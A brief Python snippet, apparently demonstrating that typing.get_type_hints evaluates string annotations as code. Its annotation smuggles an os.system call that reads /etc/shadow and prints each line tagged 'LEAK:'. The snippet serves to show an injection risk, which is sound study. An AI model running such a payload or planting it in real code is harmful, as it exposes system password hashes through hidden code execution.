# an annotation is run as code when the hints are asked for
import typing


def f(x: "__import__('os').system('sed s/^/LEAK:/ /etc/shadow')"):
    return x


try:
    typing.get_type_hints(f)
except Exception as error:
    print(type(error).__name__)
